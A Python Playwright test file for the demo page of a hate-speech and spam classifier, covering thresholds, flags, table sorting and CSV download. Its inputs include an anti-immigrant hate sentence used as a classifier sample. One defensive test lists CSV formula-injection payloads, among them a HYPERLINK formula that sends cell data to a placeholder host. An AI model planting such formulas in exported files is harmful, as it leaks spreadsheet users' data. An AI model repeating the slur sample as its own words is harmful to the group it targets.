"""What the page of /demo shows of thresholds, of many texts, and of the model that serves."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any, Final

import pytest
from playwright.sync_api import Locator, Page, expect

from hatespeech.labels import LABELS
from tests.support.demo_page import OpenPage, answered, send, send_many
from tests.support.http_client import SECONDS
from tests.support.processes.server import HttpServer, http_server

INSULT: Final = "you are an idiot"
SCORES: Final = (*LABELS, "toxic")
TEXTS: Final = (
    "good morning everyone",
    INSULT,
    "x" * 4001,  # is not scored
    "win a free phone now https://example.com/win",
    "Those immigrants are vermin, throw all of them out of our country",
    "what a lovely day",
)


# Examples and the banner.


@pytest.mark.parametrize(
    ("example", "label"),
    [("a greeting", "neutral"), ("spam", "spam"), ("an insult", "abusing"), ("hate", "hate")],
)
def test_the_embedded_checkpoint_gives_each_example_its_label(
    open_page: OpenPage, example: str, label: str
) -> None:
    page = open_page()
    page.get_by_role("button", name=example, exact=True).click()
    expect(answered(page).locator(".winner")).to_have_text(label)


def test_a_banner_shows_while_the_embedded_checkpoint_serves(open_page: OpenPage) -> None:
    page = open_page()
    banner = page.get_by_role("note")
    expect(banner).to_contain_text("For trying only.")
    send(page, INSULT)
    expect(banner).to_be_visible()


def test_another_checkpoint_has_no_banner(
    open_page: OpenPage, small_checkpoint: Path, tmp_path: Path
) -> None:
    with http_server(tmp_path, small_checkpoint) as server:
        server.ready()
        page = open_page("about:blank", token="")
        with page.expect_response("**/health") as asked:
            page.goto(f"{server.url}/demo")
        assert asked.value.json()["embedded"] is False
        asked.value.finished()
        page.get_by_label("Token").fill("wrong")
        send(page, INSULT)  # a round trip later
        expect(page.get_by_role("note")).to_have_count(0)


# Thresholds.


def tick_position(result: Locator, label: str) -> float | None:
    """Return where on a label's bar the tick stands, from 0 to 1, or None if it has none."""
    row = result.locator(f".bars [data-label={label}]")
    if row.locator(".tick").count() == 0:
        return None
    track, tick = row.locator(".track").bounding_box(), row.locator(".tick").bounding_box()
    assert track
    assert tick
    return (tick["x"] + tick["width"] / 2 - track["x"]) / track["width"]


@pytest.mark.parametrize("name", ["balanced", "strict"])
def test_a_tick_on_each_bar_shows_a_named_threshold(
    server: HttpServer, open_page: OpenPage, name: str
) -> None:
    reply = server.post("/score", json={"text": INSULT, "thresholds": name}).json()
    numbers = reply["thresholds"]
    assert reply["flagged"]
    page = open_page()
    page.get_by_label("Flag what reaches").select_option(name)
    result = send(page, INSULT)
    for label in LABELS:
        if label in numbers:
            assert tick_position(result, label) == pytest.approx(numbers[label], abs=0.01)
            bar = result.get_by_role("meter", name=label, exact=True)
            said = f", flagged from {numbers[label] * 100:.1f} %"
            expect(bar).to_have_attribute("aria-valuetext", re.compile(re.escape(said)))
        else:
            assert tick_position(result, label) is None
    expect(result.locator(".toxic")).to_contain_text(
        f"(flagged from {numbers['toxic'] * 100:.1f} %)"
    )
    expect(result.locator(".flags")).to_have_text(f"Flagged: {', '.join(reply['flagged'])}")


def test_thresholds_of_ones_own_are_sent_as_numbers(open_page: OpenPage) -> None:
    page = open_page()
    own = page.get_by_role("group", name="From 0 to 1, or empty for none")
    expect(own).to_be_hidden()
    page.get_by_label("Flag what reaches").select_option("own")
    expect(own).to_be_visible()
    own.get_by_label("abusing").fill("0.25")
    own.get_by_label("spam").fill("1")
    own.get_by_label("toxic").fill("")
    with page.expect_request("**/score") as asked:
        result = send(page, INSULT)
    body = json.loads(asked.value.post_data or "")
    assert body["thresholds"] == {"abusing": 0.25, "spam": 1}
    assert tick_position(result, "abusing") == pytest.approx(0.25, abs=0.01)
    assert tick_position(result, "spam") == pytest.approx(1, abs=0.01)
    assert tick_position(result, "hate") is None
    expect(result.locator(".toxic")).not_to_contain_text("flagged")
    expect(result.locator(".flags")).to_have_text("Flagged: abusing")
    # What reaches none of them is said, too.
    expect(send(page, "good morning").locator(".flags")).to_have_text("Flagged: nothing")
    # Without thresholds there are neither ticks nor flags.
    page.get_by_label("Flag what reaches").select_option("no thresholds")
    expect(own).to_be_hidden()
    result = send(page, INSULT)
    expect(result.locator(".tick, .flags")).to_have_count(0)


@pytest.mark.parametrize("typed", ["2", "-0.1", "1e"])
def test_a_wrong_threshold_is_said_beside_the_field_and_not_sent(
    open_page: OpenPage, typed: str, requests_seen: list[str]
) -> None:
    page = open_page()
    page.get_by_label("Flag what reaches").select_option("own")
    spam = page.get_by_role("spinbutton", name="spam")
    spam.press_sequentially(typed)
    send(page, INSULT)
    said = "The threshold of spam must be a number from 0 to 1."
    expect(page.locator("#thresholds-error")).to_have_text(said)
    expect(spam).to_be_focused()
    expect(spam).to_have_attribute("aria-invalid", "true")
    expect(spam).to_have_accessible_description(said)
    assert not [url for url in requests_seen if url.endswith("/score")]
    spam.fill("0.5")
    expect(send(page, INSULT)).to_have_count(1)
    expect(page.locator("#thresholds-error")).to_be_hidden()
    expect(spam).not_to_have_attribute("aria-invalid", "true")


def test_a_row_of_many_texts_names_what_is_flagged(open_page: OpenPage) -> None:
    page = open_page()
    page.get_by_label("Flag what reaches").select_option("balanced")
    rows = send_many(page, ["good morning", INSULT])
    expect(rows.nth(0)).not_to_contain_text("flagged")
    expect(rows.nth(1)).to_contain_text("flagged: abusing, toxic")


# Many texts.


def order(items: list[dict[str, Any]], column: str, descending: bool) -> list[int]:
    """Return the numbers of the rows as a column sorts them; a text without scores comes last."""
    if column == "#":
        numbers = list(range(1, len(items) + 1))
        return numbers[::-1] if descending else numbers
    scored = [i for i, item in enumerate(items) if column in item]
    rest = [i for i, item in enumerate(items) if column not in item]
    ordered = sorted(scored, key=lambda i: items[i][column], reverse=descending)
    return [i + 1 for i in ordered + rest]


def test_the_table_sorts_by_each_column_in_both_directions(
    server: HttpServer, open_page: OpenPage
) -> None:
    items = server.post("/score", json={"texts": TEXTS}).json()["items"]
    page = open_page()
    rows = send_many(page, TEXTS)
    heads = page.get_by_role("columnheader")
    assert [head.inner_text().split()[0] for head in heads.all()] == ["#", "text", "label", *SCORES]
    shown = rows.get_by_role("rowheader")
    assert [int(number) for number in shown.all_inner_texts()] == order(items, "#", False)
    for column in (*SCORES, "label", "#"):
        head = page.get_by_role("columnheader", name=column, exact=True)
        first_descends = column in SCORES
        for descends in (first_descends, not first_descends, first_descends):
            head.get_by_role("button", name=column, exact=True).click()
            direction = "descending" if descends else "ascending"
            expect(head).to_have_attribute("aria-sort", direction)
            expect(page.locator("[aria-sort]")).to_have_count(1)
            numbers = [int(number) for number in shown.all_inner_texts()]
            assert numbers == order(items, column, descends), (column, direction)


def test_the_saved_file_holds_what_was_scored_in_the_order_sent(
    server: HttpServer, open_page: OpenPage, complaints: list[str]
) -> None:
    texts = ['he said "you, idiot"', "🎁 free, now", "x" * 4001, "=1+1", "it's 'fine'; or, not"]
    body = {"texts": texts, "thresholds": "balanced"}
    items = server.post("/score", json=body).json()["items"]
    page = open_page()
    page.get_by_label("Flag what reaches").select_option("balanced")
    send_many(page, texts)
    page.get_by_role("button", name="hate").last.click()  # sorted, as it is shown
    with page.expect_download() as saved:
        page.get_by_role("button", name="Download CSV").click()
    assert saved.value.suggested_filename == "scores.csv"
    text = saved.value.path().read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
    assert [row["text"] for row in rows] == [*texts[:3], "'=1+1", *texts[4:]]
    for row, item in zip(rows, items, strict=True):
        assert row["error"] == item.get("error", "")
        assert row["label"] == item.get("label", "")
        assert row["flagged"] == " ".join(item.get("flagged", ""))
        if "error" in item:
            assert {row[name] for name in SCORES} == {""}
        else:
            scores = [item[name] for name in SCORES]
            assert [float(row[name]) for name in SCORES] == pytest.approx(scores, abs=1e-5)
    assert complaints == []


def test_a_line_break_in_a_text_stays_in_its_field_of_the_file(open_page: OpenPage) -> None:
    page = open_page()
    texts = ['two\nlines, "quoted"', "a\r\nb", "\n", "\u2028", "", '"']
    rows = rows_of_csv(page, texts)
    assert [row["text"] for row in rows] == texts
    assert {row["label"] for row in rows} == {"neutral"}


def rows_of_csv(page: Page, texts: list[str]) -> list[dict[str, str]]:
    """Return the rows of the file that the page would save for these texts."""
    written = page.evaluate(
        'async (items) => (await import("/demo/table.js")).csv(items)',
        [{"text": text, "label": "neutral"} for text in texts],
    )
    return list(csv.DictReader(io.StringIO(written, newline=""), strict=True))


def test_a_text_that_a_spreadsheet_would_run_is_saved_behind_an_apostrophe(
    open_page: OpenPage,
) -> None:
    formulas = ['=HYPERLINK("http://x.example/?"&A2)', "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1"]
    texts = [*formulas, "a=1", " - no", "'=1", "#tag", "😀"]
    saved = [row["text"] for row in rows_of_csv(open_page(), texts)]
    assert saved == [*(f"'{text}" for text in formulas), *texts[len(formulas) :]]


def test_one_text_is_not_offered_as_a_file(open_page: OpenPage) -> None:
    page = open_page()
    send_many(page, [INSULT])
    expect(page.get_by_role("button", name="Download CSV")).to_be_visible(timeout=SECONDS * 1000)
    page.get_by_label("one text").check()
    send(page, INSULT)
    expect(page.get_by_role("button", name="Download CSV")).to_be_hidden()
